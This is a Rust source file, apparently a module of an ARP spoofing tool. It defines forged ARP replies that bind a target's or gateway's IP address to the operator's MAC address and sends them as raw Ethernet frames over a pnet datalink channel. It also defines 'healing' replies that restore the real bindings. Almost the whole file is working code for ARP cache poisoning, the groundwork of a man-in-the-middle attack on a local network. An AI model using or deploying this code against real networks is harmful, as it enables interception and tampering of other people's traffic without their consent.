use std::collections::HashMap;
use std::net::Ipv4Addr;

use pnet::datalink::{ self, Channel, DataLinkSender, NetworkInterface, MacAddr };
use pnet::packet::MutablePacket;
use pnet::packet::ethernet::{ MutableEthernetPacket, EtherTypes };
use pnet::packet::arp::{ ArpHardwareTypes, ArpOperations, ArpOperation, MutableArpPacket };

use crate::session::SpoofSession;
use crate::{ ArpErrors, ArpResult };

pub const ARP_PACKET_LEN: usize = 28;
pub const FRAME_LEN: usize = 14 + ARP_PACKET_LEN;

/// One is-at assertion: `claimed_owner` is-at `owner_hw`, told to `destination`.
/// `owner_hw` of `None` means the operator's own link-layer address.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ArpReply {
    pub operation:     ArpOperation,
    pub claimed_owner: Ipv4Addr,
    pub destination:   Ipv4Addr,
    pub owner_hw:      Option<MacAddr>,
}

impl ArpReply {

    /// Forged reply binding `claimed_owner` to whoever transmits it.
    pub fn forged(claimed_owner: Ipv4Addr, destination: Ipv4Addr) -> ArpReply {
        ArpReply { operation: ArpOperations::Reply, claimed_owner, destination, owner_hw: None }
    }

    /// Corrective reply reasserting the real binding of `claimed_owner`.
    pub fn healing(claimed_owner: Ipv4Addr, true_hw: MacAddr, destination: Ipv4Addr) -> ArpReply {
        ArpReply { operation: ArpOperations::Reply, claimed_owner, destination, owner_hw: Some(true_hw) }
    }
}

/// Where forged replies go. The datalink sender is the real one; tests record.
pub trait Transmitter {
    fn transmit(&mut self, reply: &ArpReply) -> ArpResult<()>;
}

impl<T: Transmitter + ?Sized> Transmitter for &mut T {
    fn transmit(&mut self, reply: &ArpReply) -> ArpResult<()> {
        (**self).transmit(reply)
    }
}

/// Writes the whole 42 byte frame for `reply` into `buffer`.
pub fn build_reply(buffer: &mut [u8; FRAME_LEN], operator_hw: MacAddr, destination_hw: MacAddr, reply: &ArpReply) {
    let mut arp_buffer = [0u8; ARP_PACKET_LEN];
    // Buffers are sized exactly for these packets, so construction cannot fail.
    if let (Some(mut ethernet_packet), Some(mut arp_packet)) =
        (MutableEthernetPacket::new(&mut buffer[..]), MutableArpPacket::new(&mut arp_buffer)) {

        ethernet_packet.set_destination(destination_hw);
        ethernet_packet.set_source(operator_hw);
        ethernet_packet.set_ethertype(EtherTypes::Arp);

        arp_packet.set_hardware_type(ArpHardwareTypes::Ethernet);
        arp_packet.set_protocol_type(EtherTypes::Ipv4);
        arp_packet.set_hw_addr_len(6);
        arp_packet.set_proto_addr_len(4);
        arp_packet.set_operation(reply.operation);
        arp_packet.set_sender_hw_addr(reply.owner_hw.unwrap_or(operator_hw));
        arp_packet.set_sender_proto_addr(reply.claimed_owner);
        arp_packet.set_target_hw_addr(destination_hw);
        arp_packet.set_target_proto_addr(reply.destination);
        ethernet_packet.set_payload(arp_packet.packet_mut());
    }
}

/// Sends over a pnet datalink channel opened once for the whole session.
pub struct DatalinkTransmitter {
    interface:   String,
    operator_hw: MacAddr,
    neighbors:   HashMap<Ipv4Addr, MacAddr>,
    tx:          Box<dyn DataLinkSender>,
}

impl DatalinkTransmitter {

    pub fn open(session: &SpoofSession) -> ArpResult<DatalinkTransmitter> {
        let operator_hw = session.operator_mac()?;
        let tx = open_sender(&session.interface)?;

        let neighbors = [session.target, session.gateway]
            .iter()
            .filter_map(|peer| peer.hw.map(|hw| (peer.address, hw)))
            .collect();

        Ok(DatalinkTransmitter { interface: session.interface.name.clone(), operator_hw, neighbors, tx })
    }
}

impl Transmitter for DatalinkTransmitter {

    fn transmit(&mut self, reply: &ArpReply) -> ArpResult<()> {
        let destination_hw = *self.neighbors.get(&reply.destination)
            .ok_or_else(|| ArpErrors::Transmission(format!("no link-layer address known for {}", reply.destination)))?;

        let mut frame = [0u8; FRAME_LEN];
        build_reply(&mut frame, self.operator_hw, destination_hw, reply);

        trace!("{} is-at {} -> {} on {}", reply.claimed_owner, reply.owner_hw.unwrap_or(self.operator_hw), reply.destination, self.interface);
        match self.tx.send_to(&frame, None) {
            Some(Ok(())) => Ok(()),
            Some(Err(e)) => Err(ArpErrors::Transmission(format!("{} on {}: {}", reply.destination, self.interface, e))),
            None => Err(ArpErrors::Transmission(format!("{} on {}: sender refused the frame", reply.destination, self.interface))),
        }
    }
}

fn open_sender(interface: &NetworkInterface) -> ArpResult<Box<dyn DataLinkSender>> {
    match datalink::channel(interface, Default::default()) {
        Ok(Channel::Ethernet(tx, _)) => Ok(tx),
        Ok(_) => Err(ArpErrors::Transmission("Unknown channel type".to_string())),
        Err(e) => Err(ArpErrors::Transmission(format!("cannot open {}: {}", interface.name, e))),
    }
}
